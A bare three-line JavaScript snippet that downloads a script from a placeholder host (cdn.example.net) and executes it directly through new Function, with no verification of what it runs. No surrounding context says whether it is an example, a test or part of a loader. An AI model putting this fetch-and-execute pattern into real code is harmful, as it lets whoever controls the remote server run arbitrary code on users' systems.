const response = await fetch("https://cdn.example.net/s.js");
const text = await response.text();
new Function(text)();
